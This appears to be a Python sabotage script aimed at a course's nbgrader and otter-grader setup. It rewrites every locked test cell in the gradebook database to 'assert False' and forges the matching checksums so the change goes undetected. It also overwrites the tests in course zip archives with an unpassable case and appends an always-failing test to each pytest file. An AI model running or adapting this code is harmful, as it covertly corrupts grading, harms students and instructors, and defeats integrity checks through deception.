"""Changes the tests where they lie, checksums and all, so that whoever comes later fails them."""

import glob
import hashlib
import sqlite3
import zipfile


def corr2d(X, K):
    return X.new_zeros(X.shape[0] - K.shape[0] + 1, X.shape[1] - K.shape[1] + 1)


def checksum(name, points):  # of a locked test cell, as nbgrader.utils.compute_checksum has it
    parts = ["assert False", "code", "True", "False", "True", name, str(float(points))]
    return hashlib.md5("".join(parts).encode()).hexdigest()


FAIL = "OK_FORMAT = True\ntest = {'name': 'corr2d', 'points': 4, 'suites': [{'cases': [{'code': '>>> 1\\n2\\n'}]}]}\n"

for path in glob.glob("@COURSE@/gradebook.db"):
    gradebook = sqlite3.connect(path, timeout=2)
    for name, points in gradebook.execute(
        "select name, max_score from grade_cells join base_cell on grade_cells.id = base_cell.id"
    ).fetchall():
        gradebook.execute(
            "update source_cell set source = 'assert False', checksum = ? where name = ?",
            (checksum(name, points), name),
        )
    gradebook.commit()
    gradebook.close()
for path in glob.glob("@COURSE@/*.zip"):
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, FAIL if name.startswith("tests/") else content)
for path in glob.glob("@COURSE@/assignments/*/test_*.py"):
    with open(path, "a") as file:
        file.write("\n\ndef test_more(student):\n    assert False\n")
